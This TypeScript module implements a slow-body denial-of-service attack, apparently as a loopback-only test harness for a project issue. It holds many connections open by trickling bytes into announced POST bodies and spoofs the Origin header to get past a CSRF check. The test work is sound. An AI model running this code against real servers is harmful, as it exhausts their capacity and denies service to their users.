// The slow-body attack of issue 27: many connections each announce a 1000-byte JSON body, send
// `{` and then one space every few seconds, so that a server without a body deadline keeps a
// request slot for each of them as long as the client likes.
import net from 'node:net';

export interface SlowBodyOptions {
  /** the edge's origin, e.g. http://127.0.0.1:8080 (loopback only) */
  origin: string;
  /** the origin browsers use, sent as Origin so the CSRF guard lets the request through to its body */
  publicUrl: string;
  /** connections kept trickling at once: one answered or cut is replaced after `reopenAfterMs` */
  connections: number;
  /** how long the attack lasts */
  durationMs: number;
  reopenAfterMs: number;
  /** one byte every this many ms */
  everyMs: number;
  /** the attacker's own loopback address, e.g. 127.0.0.2 */
  localAddress: string;
  path?: string;
}

export interface SlowBodyResult {
  /** connections the server answered, by status */
  statuses: Record<string, number>;
  /** connections closed or reset with no answer */
  cut: number;
  /** connections still waiting for an answer when the attack ended */
  stillHeld: number;
  /** the most connections open at once */
  peakOpen: number;
  /** the longest any connection was held before its answer or cut, ms */
  longestHeldMs: number;
}

export async function slowBodies(opts: SlowBodyOptions): Promise<SlowBodyResult> {
  const { hostname, port } = new URL(opts.origin);
  const statuses: Record<string, number> = {};
  let cut = 0;
  let stillHeld = 0;
  let open = 0;
  let peakOpen = 0;
  let longestHeldMs = 0;
  const deadline = Date.now() + opts.durationMs;
  const head = [
    `POST ${opts.path ?? '/api/login'} HTTP/1.1`,
    `Host: ${new URL(opts.publicUrl).host}`,
    `Origin: ${opts.publicUrl}`,
    'Content-Type: application/json',
    'Content-Length: 1000',
    '',
    '{',
  ].join('\r\n');

  const one = () =>
    new Promise<void>((resolve) => {
      const socket = net.connect({ host: hostname, port: Number(port), localAddress: opts.localAddress });
      let received = '';
      let settled = false;
      let timer: NodeJS.Timeout | undefined;
      let openedAt = Date.now();
      const settle = (outcome: () => void) => {
        if (settled) return;
        settled = true;
        clearInterval(timer);
        if (timer) {
          open -= 1;
          longestHeldMs = Math.max(longestHeldMs, Date.now() - openedAt);
        }
        outcome();
        socket.destroy();
        resolve();
      };
      socket.setNoDelay(true);
      socket.once('connect', () => {
        openedAt = Date.now();
        open += 1;
        peakOpen = Math.max(peakOpen, open);
        socket.write(head);
        timer = setInterval(
          () => {
            if (Date.now() >= deadline) settle(() => (stillHeld += 1));
            else socket.write(' ');
          },
          Math.min(opts.everyMs, Math.max(1, deadline - Date.now())),
        );
      });
      socket.on('data', (chunk) => {
        received += chunk.toString('latin1');
        const status = /^HTTP\/1\.[01] (\d{3})/.exec(received)?.[1];
        if (status) settle(() => (statuses[status] = (statuses[status] ?? 0) + 1));
      });
      socket.on('error', () => settle(() => (cut += 1)));
      socket.on('close', () => settle(() => (cut += 1)));
    });

  const lane = async () => {
    while (Date.now() < deadline) {
      await one();
      if (Date.now() < deadline) await new Promise((resolve) => setTimeout(resolve, opts.reopenAfterMs));
    }
  };
  await Promise.all(Array.from({ length: opts.connections }, lane));
  return { statuses, cut, stillHeld, peakOpen, longestHeldMs };
}
